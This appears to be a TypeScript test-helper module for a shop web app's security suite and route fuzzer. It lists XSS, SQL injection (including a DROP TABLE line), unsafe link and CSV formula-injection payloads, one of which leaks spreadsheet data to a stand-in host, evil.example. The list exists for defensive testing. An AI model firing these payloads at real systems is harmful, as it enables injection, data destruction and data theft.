import { Writable } from 'node:stream';
import { apiErrorSchema } from '@shop/contract';
import type { LightMyRequestResponse } from 'fastify';
import { expect } from 'vitest';
import { outboxMails } from './outbox.ts';

/**
 * Shared hostile inputs and checks of the attack suite and the route fuzzer: what an attacker
 * sends, and what every answer to it must look like.
 */

export const EVIL_HOST = 'evil.example';

/** Markup that would run if any page printed it unescaped. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  'javascript:alert(1)',
] as const;

/** SQL text that would change a query built by concatenation. */
export const SQL_PAYLOADS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '1 UNION SELECT password_hash FROM users',
  "\\'; select pg_sleep(5); --",
] as const;

/** Values with a control character, as an attacker types them into any field. */
export const CONTROL_CHARACTER_VALUES = [
  'a\u0000b',
  '\u0000',
  'x\u0007y',
  'name\u001b[31m',
  'z\u0085',
] as const;

/** Headers that must be on every answer, whatever its status. */
export const SECURITY_HEADERS = [
  'content-security-policy',
  'permissions-policy',
  'x-content-type-options',
  'x-frame-options',
  'referrer-policy',
  'cross-origin-opener-policy',
] as const;

/**
 * Links that must never reach a page from settings or content: script and data URLs in their
 * spellings, plain http, an address without a scheme that leaves the shop, and a backslash
 * that browsers read as a slash.
 */
export const UNSAFE_LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  `http://${EVIL_HOST}/phish`,
  `//${EVIL_HOST}/phish`,
  `https:\\${EVIL_HOST}`,
  `https://user:pass@${EVIL_HOST}/`,
] as const;

/** What a spreadsheet would run if a CSV cell started with it (a formula, a DDE call). */
export const FORMULA_CELLS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
] as const;

/** True when a CSV cell as read from a file would start a formula in a spreadsheet. */
export const startsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

/** A JSON text nested `depth` levels deep: `{"a":{"a":…}}`. */
export function deeplyNested(depth: number): string {
  return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

/** A JSON text of `depth` lists inside each other: `[[[…]]]`, two bytes a level. */
export function nestedArrays(depth: number): string {
  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
}

/** The contract's error shape, with the status and (when given) the code expected. */
export function expectApiError(res: LightMyRequestResponse, status: number, code?: string): void {
  expect(res.statusCode, res.body).toBe(status);
  const parsed = apiErrorSchema.safeParse(res.json());
  expect(parsed.success, res.body).toBe(true);
  if (code) expect(res.json().code, res.body).toBe(code);
}

export function expectSecurityHeaders(res: LightMyRequestResponse, what: string): void {
  for (const name of SECURITY_HEADERS) expect(res.headers[name], `${what}: ${name}`).toBeTruthy();
  expect(String(res.headers['permissions-policy']), what).toMatch(/camera=\(\)/);
}

export { outboxMails };

/** Waits for a mail sent in the background to reach the outbox. */
export async function waitForMail(
  outboxDir: string,
  match: (mail: string) => boolean,
  timeoutMs = 5000,
): Promise<string> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const found = (await outboxMails(outboxDir)).find(match);
    if (found) return found;
    if (Date.now() > deadline) throw new Error('no such mail in the outbox');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** A pino destination that keeps every log line, for "what reached the logs" checks. */
export function logCapture() {
  const lines: string[] = [];
  const stream = new Writable({
    write(chunk: Buffer, _encoding, callback) {
      lines.push(...chunk.toString('utf8').split('\n').filter(Boolean));
      callback();
    },
  });
  return { lines, stream };
}

/** True when some line carries `length` consecutive characters of `value`, wherever in it. */
export function carriesRunOf(lines: readonly string[], value: string, length: number): boolean {
  for (let start = 0; start + length <= value.length; start++) {
    const run = value.slice(start, start + length);
    if (lines.some((line) => line.includes(run))) return true;
  }
  return false;
}

export interface TableRoute {
  method: string;
  url: string;
}

/**
 * Every route of the app as Fastify's own route table prints it (`printRoutes`), flattened to
 * method and full URL pattern (`/api/User/Update/User/:id`).
 */
export function routeTable(app: { printRoutes(options: { commonPrefix: false }): string }): TableRoute[] {
  const routes: TableRoute[] = [];
  const stack: string[] = [];
  for (const line of app.printRoutes({ commonPrefix: false }).split('\n')) {
    const match = /^((?:[│ ] {3})*)[├└]── (.*?)(?: \(([^)]+)\))?$/.exec(line);
    if (!match) continue;
    const depth = (match[1] ?? '').length / 4;
    stack.length = depth;
    stack.push(match[2] ?? '');
    for (const method of match[3]?.split(', ') ?? []) routes.push({ method, url: stack.join('') });
  }
  return routes;
}
